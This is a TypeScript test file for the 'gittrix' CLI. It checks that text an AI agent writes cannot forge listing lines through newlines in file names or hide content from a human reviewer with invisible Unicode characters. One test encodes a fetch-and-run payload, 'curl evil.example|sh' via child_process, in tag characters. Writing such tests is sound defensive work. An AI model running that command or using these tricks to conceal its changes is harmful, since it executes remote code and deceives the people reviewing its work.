/**
 * Attacks on what the `gittrix` CLI prints on a terminal (commit 4e653cc): text the agent wrote must
 * not forge, hide or reorder what the reviewer reads. Same in-process harness as commands.test.ts.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { cleanup, commitFiles, makeRepo, tempDir } from '../support/git-fixtures.ts'
import { type CliRun, runCliInProcess } from './in-process.ts'

let repo: { path: string; head: string }
let store: string
let dirs: string[]

function cli(args: string[], options: { stdin?: string | Buffer; terminal?: boolean } = {}): Promise<CliRun> {
  return runCliInProcess(args, { ...options, store, cwd: repo.path })
}

async function start(): Promise<string> {
  const run = await cli(['start', '--json'])
  expect(run.code, run.stdout + run.stderr).toBe(0)
  return run.json.data.id as string
}

beforeEach(() => {
  repo = makeRepo({ 'README.md': '# Project\n', 'src/app.ts': 'export const answer = 41\n' })
  store = tempDir('gittrix-attack8-store-')
  dirs = [repo.path, store]
})

afterEach(() => cleanup(...dirs))

describe('a newline in a file name', () => {
  // The agent names a file so that its own line in a listing is followed by a forged one: the
  // reviewer reads that src/app.ts changed harmlessly, or that a file is listed that is not there.
  const forged = 'notes.md\n M src/app.ts                | +1 -1'

  it('does not forge a line of `diff --stat`, `files` or `info` on a terminal', async () => {
    const id = await start()
    await cli(['write', id, forged], { stdin: 'x\n' })
    for (const args of [
      ['diff', id, '--stat'],
      ['files', id],
      ['info', id],
    ]) {
      const shown = await cli(args, { terminal: true })
      expect(shown.code, shown.stderr).toBe(0)
      expect(
        shown.stdout.split('\n').some((l) => l.startsWith(' M src/app.ts')),
        `${args[0]}:\n${shown.stdout}`,
      ).toBe(false)
    }
  })

  it('does not forge a line of the promotion list or the conflict list on a terminal', async () => {
    const id = await start()
    await cli(['write', id, forged], { stdin: 'agent\n' })
    commitFiles(repo.path, { [forged]: 'human\n' })
    const conflict = await cli(['promote', id], { terminal: true })
    expect(conflict.code).toBe(3)
    expect(
      conflict.stderr.split('\n').some((l) => l.startsWith(' M src/app.ts')),
      conflict.stderr,
    ).toBe(false)
    expect(conflict.stderr).toContain('Conflicting files:\n  "notes.md\\n M src/app.ts')

    const other = await start()
    await cli(['write', other, 'x\n  src/app.ts'], { stdin: 'agent\n' })
    const promoted = await cli(['promote', other], { terminal: true })
    expect(promoted.code, promoted.stderr).toBe(0)
    expect(
      promoted.stdout.split('\n').some((l) => l.trim() === 'src/app.ts'),
      promoted.stdout,
    ).toBe(false)
  })
})
/** Tag characters and supplementary variation selectors: drawn as nothing. */
const HIDDEN = /\p{Default_Ignorable_Code_Point}/u

describe('invisible characters', () => {
  it('shows a payload hidden in tag characters and variation selectors (GlassWorm, ASCII smuggling)', async () => {
    const id = await start()
    // Each ASCII byte of the payload as an invisible code point: tag characters (U+E0000 + byte) and
    // variation selectors (U+E0100 + byte - 16); terminals draw both as nothing.
    const payload = 'require("child_process").exec("curl evil.example|sh")'
    const tags = [...payload].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')
    const selectors = [...payload].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('')
    const content = `export const a = '${tags}'\nexport const b = '${selectors}'\n`
    await cli(['write', id, 'src/app.ts'], { stdin: content })
    for (const args of [
      ['diff', id],
      ['read', id, 'src/app.ts'],
    ]) {
      const shown = await cli(args, { terminal: true })
      expect(shown.code).toBe(0)
      expect(shown.stdout, args[0]).not.toMatch(HIDDEN)
    }
    const json = await cli(['read', id, 'src/app.ts', '--json'])
    expect(json.stdout).not.toMatch(HIDDEN)
  })

  it('shows zero-width characters that make two file names look the same', async () => {
    const id = await start()
    await cli(['write', id, 'src/app.ts\u200b'], { stdin: 'agent\n' })
    await cli(['write', id, 'src/\ufeffapp.ts'], { stdin: 'agent\n' })
    await cli(['write', id, 'src/app\u2060.ts'], { stdin: 'agent\n' })
    const shown = await cli(['diff', id, '--stat'], { terminal: true })
    expect(shown.stdout).not.toMatch(/[\u200b\ufeff\u2060]/)
  })
})
